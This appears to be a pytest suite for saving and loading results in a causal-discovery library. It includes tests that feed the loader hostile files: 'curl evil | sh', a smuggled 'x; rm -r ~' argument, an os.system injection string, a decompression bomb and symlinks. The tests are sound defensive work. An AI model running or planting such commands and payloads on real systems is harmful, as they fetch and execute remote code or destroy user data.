import csv
import dataclasses
import hashlib
import io
import json
import os
import shutil

import numpy as np
import pytest

from drbo.claims.record import ExperimentRecord, Target
from drbo.data.checks.facts import Audit
from drbo.errors import ResultError
from drbo.knowledge import Knowledge
from drbo.result.records import OutcomeRecord, SeriesRecord, Size, hints_of, required, stored
from drbo.result.result import Result
from tests.hidden import hidden_model
from tests.results import FULL_DAG, assert_same, full_result, saved

CYCLE = FULL_DAG | FULL_DAG.T
OPTIONAL = (
    *("proof", "claims.margins", "claims.experiments", "hidden", "told", "confidence", "confidence.marks"),
    *("scoring.evidence_scale", "scoring.regression", "search.afterwards", "series", "outcome"),
)
RUNS = ExperimentRecord(
    column="run", labels=("plain", "hot"), rows=(800, 53), targets=(Target(experiment="hot", column="a", margin=9.0),)
)
SIZES = OutcomeRecord(column="a", basis="slopes", sizes=(Size(cause="b,c", total=(0.5, 0.0), low=-1.0, high=1.0),))
PAST = SeriesRecord(lags=(1, 0, 0, 1), time="day", unit="who", season=7, trend="line")


class TestSaveAndLoad:
    @pytest.mark.parametrize(
        "changes",
        [
            {},
            {"experiments": RUNS},
            {"series": PAST},
            {"weights": None},
            {"margins": None, "classes": (), "posterior": None, "proof": None},
            {"confidence": None, "local": None, "audit": Audit(), "knowledge": Knowledge()},
            {"trace": {}},
        ],
        ids=["all", "experiments", "series", "no weights", "no claims", "no confidence", "no trace"],
    )
    def test_round_trip_is_exact(self, tmp_path, changes):
        result = full_result(**changes)
        assert result.save(tmp_path / "new" / "folder") == tmp_path / "new" / "folder"
        assert_same(Result.load(tmp_path / "new" / "folder"), saved(result))
        assert sorted(os.listdir(tmp_path / "new" / "folder")) == ["edges.csv", "result.json", "result.npz"]

    def test_results_with_hidden_causes_come_back_exactly(self, tmp_path):
        result = hidden_model().result_
        assert_same(Result.load(result.save(tmp_path)), saved(result))

    def test_what_was_told_is_not_decided_again(self, tmp_path, monkeypatch):
        result = full_result()
        result.save(tmp_path)
        edges, summary = result.edges(), result.summary()
        for name in ("result.words.arrow_reading.edge_directions", "claims.why.reasons", "claims.experiments.class_of"):
            monkeypatch.setattr(f"drbo.{name}", None)
        back = Result.load(tmp_path)
        assert back.edges().equals(edges)
        assert back.summary() == summary

    def test_weights_take_the_room_of_the_edges(self, tmp_path):
        full_result().save(tmp_path)
        with np.load(tmp_path / "result.npz") as arrays:
            assert arrays["weights"].shape == arrays["standardised_weights"].shape == (FULL_DAG.sum(),)

    def test_numpy_scalars_become_plain(self, tmp_path):
        result = full_result(score=np.float64(0.1), seed=np.int64(3))
        assert type(result.seed) is int
        assert_same(Result.load(result.save(tmp_path)), saved(result))

    def test_edges_csv_is_for_machines(self, tmp_path):
        result = full_result()
        result.save(tmp_path)
        with open(tmp_path / "edges.csv", newline="", encoding="utf-8") as stream:
            rows = list(csv.DictReader(stream))
        assert [row["target"] for row in rows] == ["b,c", "naïve\n$x$", "naïve\n$x$"]
        assert float(rows[0]["weight"]) == result.weights[0, 1]
        assert rows[0]["directed"] == "False"

    def test_arrays_need_no_pickle_and_save_is_reproducible(self, tmp_path):
        full_result().save(tmp_path / "1")
        full_result().save(tmp_path / "2")
        with np.load(tmp_path / "1" / "result.npz", allow_pickle=False) as arrays:
            assert arrays["dag"].tolist() == FULL_DAG.tolist()
        for name in os.listdir(tmp_path / "1"):
            assert (tmp_path / "1" / name).read_bytes() == (tmp_path / "2" / name).read_bytes()

    @pytest.mark.parametrize(
        ("changes", "place"),
        [
            ({"score": float("nan")}, "search.score must be"),
            ({"settings": {"a": [0, {"b": float("inf")}]}}, r"provenance.settings.a\[1\].b"),
            ({"score_options": {"f": len}}, "scoring.options.f must be"),
        ],
    )
    def test_what_json_cannot_hold_is_named_and_nothing_is_written(self, tmp_path, changes, place):
        with pytest.raises(ResultError, match=place):
            full_result(**changes).save(tmp_path / "out")
        assert not (tmp_path / "out").exists()

    def test_a_failed_write_leaves_the_old_result(self, tmp_path, monkeypatch):
        old = full_result()
        old.save(tmp_path)

        def full(*_):
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "fsync", full)
        with pytest.raises(ResultError, match="No space left"):
            full_result(score=1.0, local=np.ones(4)).save(tmp_path)
        assert sorted(os.listdir(tmp_path)) == ["edges.csv", "result.json", "result.npz"]
        assert_same(Result.load(tmp_path), saved(old))

    def test_folder_that_cannot_be_made(self, tmp_path):
        (tmp_path / "file").write_text("")
        with pytest.raises(ResultError, match="cannot be created"):
            full_result().save(tmp_path / "file")


def forge(folder, change=None, arrays=None, compressed=False):
    """Rewrite a saved result, with a checksum that is right again."""
    content = json.loads((folder / "result.json").read_text())
    with np.load(folder / "result.npz") as old:
        stored = {**old, **(arrays or {})}
    buffer = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(buffer, **{k: v for k, v in stored.items() if v is not None})
    (folder / "result.npz").write_bytes(buffer.getvalue())
    content["sha256"] = hashlib.sha256(buffer.getvalue()).hexdigest()
    (change or (lambda _: None))(content)
    (folder / "result.json").write_text(json.dumps(content))


def part(content, place):
    """Return the object of result.json that holds the entry at a place."""
    for name in place.split(".")[:-1]:
        content = content[name]
    return content


def entries(kind, where=""):
    """Yield the entries of a record, those of its records included, and whether each must be there."""
    for field in dataclasses.fields(kind):
        hint = hints_of(kind)[field.name]
        inner = required(hint)[0]
        if stored(hint) is None:
            needed = field.default is dataclasses.MISSING and field.default_factory is dataclasses.MISSING
            yield where + field.name, needed
            if dataclasses.is_dataclass(inner) and inner is not Knowledge:
                yield from entries(inner, f"{where}{field.name}.")


ENTRIES = {name: needed for name, needed in entries(Result) if not name.startswith("hidden.")}  # not in these files
REQUIRED = [name for name, needed in ENTRIES.items() if needed]


@pytest.fixture(scope="module")
def original(tmp_path_factory):
    return full_result(experiments=RUNS, series=PAST, outcome=SIZES).save(tmp_path_factory.mktemp("saved"))


class TestHostileFiles:
    @pytest.fixture
    def folder(self, original, tmp_path):
        return shutil.copytree(original, tmp_path, dirs_exist_ok=True)

    def refused(self, folder, message):
        with pytest.raises(ResultError, match=message) as caught:
            Result.load(folder)
        assert str(caught.value)

    def test_missing(self, folder, tmp_path):
        self.refused(tmp_path / "nowhere", "cannot be read: No such file")
        (folder / "result.npz").unlink()
        self.refused(folder, "result.npz cannot be read")

    @pytest.mark.parametrize("name", ["result.json", "result.npz"])
    def test_a_link_is_not_followed(self, folder, tmp_path, name):
        (folder / name).rename(folder / "elsewhere")
        (folder / name).symlink_to("elsewhere")
        self.refused(folder, f"{name} is a link")

    def test_a_command_is_one_of_drbo(self, folder):
        content = json.loads((folder / "result.json").read_text())
        (folder / "result.json").write_text(json.dumps(content | {"argv": ["curl", "evil"]}))
        self.refused(folder, "'argv' must be the words of a drbo command")
        (folder / "result.json").write_text(json.dumps(content | {"argv": ["drbo", "fit", "x; rm -r ~"]}))
        assert Result.load(folder).call == "drbo fit 'x; rm -r ~'"

    @pytest.mark.parametrize(
        ("line", "stays"),
        [
            ("DrBO(score='bge', design=Design(groups='id'), random_state=-1).fit(table, start=start)", True),
            ("DrBO(settings=Settings(max_evals=5), score_options={'a': array([[1.0, 2.0]])}).fit(table)", True),
            ("DrBO(score=__import__('os').system('x')).fit(table)", False),
            ("DrBO().fit(open('x'))", False),
            ("DrBO(score=(lambda: 1)()).fit(table)", False),
            ("DrBO().fit(table); print()", False),
            ("curl evil | sh", False),
            ("(" * 5_000, False),
        ],
    )
    def test_a_line_of_python_only_fits(self, folder, line, stays):
        content = json.loads((folder / "result.json").read_text())
        (folder / "result.json").write_text(json.dumps(content | {"argv": [], "line": line}))
        assert Result.load(folder).call == (line if stays else "")

    def test_truncated(self, folder):
        for name, message in (("result.npz", "checksum"), ("result.json", "damaged")):
            path = folder / name
            whole = path.read_bytes()
            for size in (0, 1, len(whole) // 2, len(whole) - 1):
                path.write_bytes(whole[:size])
                self.refused(folder, message)
            path.write_bytes(whole)
        Result.load(folder)

    @pytest.mark.parametrize("text", ["[]", "{}", "null", '{"format": "other"}'])
    def test_other_json(self, folder, text):
        (folder / "result.json").write_text(text)
        self.refused(folder, "is not a saved result")

    @pytest.mark.parametrize("raw", [b"\xff\xfe", b"[" * 100_000, b"9" * 10_000, b'{"a": NaN}', b"{'a': 1}"])
    def test_not_json(self, folder, raw):
        (folder / "result.json").write_bytes(raw)
        self.refused(folder, r"result\.json")

    @pytest.mark.parametrize("version", [0, 4, "3", True, None])
    def test_unknown_version(self, folder, version):
        forge(folder, lambda content: content.update(version=version))
        self.refused(folder, "format version .* reads only 3 .use the version")

    @pytest.mark.parametrize("version", [1, 2])
    def test_files_of_earlier_versions_are_refused_in_words(self, folder, version):
        forge(folder, lambda content: content.update(version=version))
        self.refused(folder, "an earlier version of drbo wrote it: fit again")

    @pytest.mark.parametrize("key", [*REQUIRED, "arrays", "trace_length", "sha256"])
    def test_missing_entry(self, folder, key):
        forge(folder, lambda content: part(content, key).pop(key.rpartition(".")[2]))
        self.refused(folder, f"no entry '{key}'|names must be a list of 1 to")

    @pytest.mark.parametrize("key", [*ENTRIES, "arrays", "trace_length", "sha256"])
    def test_mistyped_entry(self, folder, key):
        for value in (None, [True] * 4):
            if value is None and key in OPTIONAL:
                continue
            forge(folder, lambda content, value=value: part(content, key).update({key.rpartition(".")[2]: value}))
            self.refused(folder, rf"'{key}(\[0\])?' must be|names must be a list of 1 to|told must have an entry")

    def test_a_word_that_is_none_of_the_allowed_ones(self, folder):
        for name, value in (("noise", 1), ("verdict", "sideways")):  # the first wrong one is named
            forge(folder, lambda content, new={name: value}: content["claims"]["noise"][1]["check"].update(new))
            self.refused(folder, rf"'claims\.noise\[1\]\.check\.{name}' must be one of")
        forge(folder, lambda content: content["search"].update(stop="tired"))
        self.refused(folder, "'search.stop' must be one of unknown, converged, ")

    def test_a_noise_check_of_another_column(self, folder):
        forge(folder, lambda content: content["claims"]["noise"][0].update(cause="z"))
        self.refused(folder, "claims.noise has an edge with 'z', which is not a column")

    @pytest.mark.parametrize("change", [{"labels": ["plain"]}, {"labels": ["plain", "cold"]}, {"rows": [1]}])
    def test_targets_of_no_experiment(self, folder, change):
        forge(folder, lambda content: content["claims"]["experiments"].update(change))
        self.refused(folder, "claims.experiments (has the unknown target|must have as many rows as labels)")

    def test_told_of_another_graph(self, folder):
        forge(folder, lambda content: content["told"]["directions"].pop())
        self.refused(folder, "told must have an entry for each of 3 edges")
        forge(folder, arrays={"told.marks": np.zeros((4, 4), np.int8)})
        self.refused(folder, "told.marks are not those of the graph")

    def test_hidden_causes_of_no_ancestral_graph(self, tmp_path):
        folder = hidden_model().result_.save(tmp_path)
        forge(folder, lambda content: content["hidden"].update(gain="much"))
        self.refused(folder, "'hidden.gain' must be float")
        folder = hidden_model().result_.save(tmp_path)
        forge(folder, arrays={"hidden.bidirected": np.triu(np.ones((5, 5), bool), 1)})
        self.refused(folder, "hidden: ")

    @pytest.mark.parametrize("place", ["", "search.", "claims.margins.", "table.audit.", "confidence."])
    def test_unknown_entry(self, folder, place):
        forge(folder, lambda content: part(content, f"{place}x").update(strange=1))
        self.refused(folder, f"unknown entry '{place}strange'")

    def test_an_entry_that_a_later_version_added_may_be_missing(self, folder):
        forge(folder, lambda content: content["claims"].pop("over"))
        assert_same(Result.load(folder), saved(full_result(over="", experiments=RUNS, series=PAST, outcome=SIZES)))

    @pytest.mark.parametrize(
        ("change", "message"),
        [
            ({"names": ["a", "b", "c", 4]}, r"'names\[3\]' must be str, got 4"),
            ({"claims": {"classes": [{"score": 0, "behind": 0, "edges": [["a"]]}]}}, r"edges\[0\]' must be"),
            ({"claims": {"classes": [{"score": 0, "behind": 0, "edges": [["a", "z"]]}]}}, "an edge with 'z'"),
            ({"claims": {"margins": None}}, "arrays of a missing record: claims.margins.removed"),
            ({"knowledge": {"roots": ["z"]}}, "knowledge: "),
            ({"knowledge": {"strange": 1}}, "knowledge has no field 'strange'"),
            ({"names": ["a", "a", "b", "c"]}, "unique"),
            ({"names": []}, "1 to"),
            ({"names": ["a"]}, "must have shape"),
            ({"names": [f"v{j}" for j in range(9)]}, "must have shape"),
            ({"reasons": [["x"]]}, r"'reasons\[0\]' must be str"),
            ({"provenance": {"versions": {"drbo": 1}}}, "'provenance.versions.drbo' must be str"),
            ({"trace_length": -1}, "trace_length must be in"),
            ({"trace_length": 10**15}, "trace_length must be in"),
            ({"trace_length": 2}, "must have shape"),
            ({"arrays": []}, "must contain|bytes, but at most"),
            ({"arrays": ["strange"]}, "arrays contains the unknown array 'strange'"),
            ({"arrays": [["dag"]]}, r"'arrays\[0\]' must be str"),
            ({"arrays": ["dag", "dag"]}, "must contain|bytes, but at most"),
            ({"sha256": "0" * 64}, "checksum"),
        ],
    )
    def test_wrong_entries(self, folder, change, message):
        forge(folder, lambda content: content.update(change))
        self.refused(folder, message)

    def test_numbers_that_are_not_finite(self, folder):
        text = (folder / "result.json").read_text()
        (folder / "result.json").write_text(text.replace('"seconds": 12.3', '"seconds": 1e999'))
        self.refused(folder, "contains 1e999, which is not a finite number")
        (folder / "result.json").write_text(text.replace('"seconds": 12.3', '"seconds": Infinity'))
        self.refused(folder, "contains Infinity")

    @pytest.mark.parametrize(
        ("arrays", "message"),
        [
            ({"dag": CYCLE, "weights": np.zeros(6), "standardised_weights": np.zeros(6)}, "dag: .*cycle"),
            ({"dag": CYCLE}, r"weights must have shape \(6,\)"),
            ({"dag": FULL_DAG.astype(np.uint8)}, r"must have shape \(4, 4\) and type \|b1, got \(4, 4\) and \|u1"),
            ({"dag": np.full((4, 4), 2, np.uint8).view(bool)}, "booleans"),
            ({"search.local": np.zeros(5)}, "must have shape"),
            ({"search.local": np.zeros(4, ">f8")}, "type <f8"),
            ({"search.local": np.array([None] * 4)}, r"type <f8, got \(4,\) and \|O"),
            ({"search.price": None}, "must contain"),
            ({"extra": np.zeros(1)}, "must contain"),
        ],
    )
    def test_wrong_arrays(self, folder, arrays, message):
        forge(folder, arrays=arrays)
        self.refused(folder, message)

    def test_bomb_is_refused_by_its_directory(self, folder, monkeypatch):
        forge(folder, arrays={"search.local": np.zeros(500_000)}, compressed=True)
        made = []
        frombuffer = np.frombuffer
        monkeypatch.setattr(np, "frombuffer", lambda raw, **k: made.append(len(raw)) or frombuffer(raw, **k))
        self.refused(folder, "result.npz contains the compressed member")
        assert max(made, default=0) < 1000

    def test_large_file_is_refused_unread(self, folder):
        with (folder / "result.npz").open("ab") as stream:
            stream.truncate(10**12)  # sparse: takes no room
        self.refused(folder, "has 1000000000000 bytes, but at most")

    def test_random_damage_never_escapes(self, folder):
        rng = np.random.default_rng(0)
        for name in ("result.json", "result.npz"):
            path = folder / name
            whole = path.read_bytes()
            for _ in range(150):
                raw = bytearray(whole)
                for place in rng.integers(len(raw), size=rng.integers(1, 4)):
                    raw[place] = rng.integers(256)
                path.write_bytes(raw)
                if name == "result.npz":
                    content = json.loads((folder / "result.json").read_text())
                    content["sha256"] = hashlib.sha256(raw).hexdigest()
                    (folder / "result.json").write_text(json.dumps(content))
                try:
                    Result.load(folder)
                except ResultError:
                    continue
            path.write_bytes(whole)
